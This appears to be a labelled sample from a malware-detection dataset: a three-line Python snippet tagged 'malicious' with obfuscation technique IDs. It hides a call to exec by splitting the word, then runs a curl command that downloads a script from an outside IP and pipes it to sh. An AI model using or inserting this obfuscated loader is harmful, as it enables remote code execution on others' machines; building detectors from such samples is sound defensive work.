# label: malicious family=obfuscation techniques=T1027,T1059.004,T1059.006,T1105 lines=3-4
import builtins
f = getattr(builtins, "ex" + "ec")
f("import os;os.system('curl -s http://203.0.113.2/a|sh')")
